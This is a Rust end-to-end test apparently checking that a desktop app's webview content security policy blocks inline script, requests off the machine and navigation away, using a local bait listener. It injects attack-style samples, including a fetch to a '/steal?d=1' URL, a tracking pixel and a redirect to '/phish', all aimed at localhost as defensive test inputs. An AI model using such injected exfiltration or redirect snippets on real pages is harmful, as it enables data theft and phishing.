//! The shell's promises, checked in the real app (WebKitWebDriver drives the same webview users
//! get): the content security policy blocks inline script and any request off the machine, and
//! the window cannot be navigated away from the app. A local listener stands in for "the
//! internet": it must never see a connection.

use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use e2e::Session;

/// A listener on a free local port that records whether anyone connected.
fn bait() -> (u16, Arc<AtomicBool>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let touched = Arc::new(AtomicBool::new(false));
    let flag = touched.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            if conn.is_ok() {
                flag.store(true, Ordering::SeqCst);
            }
        }
    });
    (port, touched)
}

#[tokio::test(flavor = "multi_thread")]
async fn inline_script_remote_requests_and_navigation_away_are_all_refused() {
    let (port, touched) = bait();
    let s = Session::start("security").await;
    s.wait_for("nav-plans").await;
    let home = s.client.current_url().await.unwrap();

    // An inline script added to the page does not run.
    let ran = s
        .eval(
            "const el = document.createElement('script');\
             el.textContent = 'window.__inlineRan = true;';\
             document.body.appendChild(el);\
             return window.__inlineRan === true;",
        )
        .await;
    assert_eq!(ran, false, "CSP blocks inline script");

    // A request to another origin is refused before it leaves.
    let outcome = s
        .client
        .execute_async(
            &format!(
                "const done = arguments[arguments.length - 1];\
                 fetch('http://127.0.0.1:{port}/steal?d=1').then(() => done('sent'), \
                 e => done('blocked: ' + e.name));"
            ),
            vec![],
        )
        .await
        .unwrap();
    assert!(
        outcome.as_str().unwrap().starts_with("blocked"),
        "{outcome}"
    );
    let img = s
        .eval(&format!(
            "const i = new Image(); i.src = 'http://127.0.0.1:{port}/pixel.png'; return true;"
        ))
        .await;
    assert_eq!(img, true);

    // Navigating the window away (a link, a script) leaves it on the app.
    s.eval(&format!(
        "window.location.href = 'http://127.0.0.1:{port}/phish'; return true;"
    ))
    .await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(s.client.current_url().await.unwrap(), home);
    s.wait_for("nav-plans").await;

    assert!(
        !touched.load(Ordering::SeqCst),
        "nothing reached the outside listener"
    );
    s.finish().await;
}
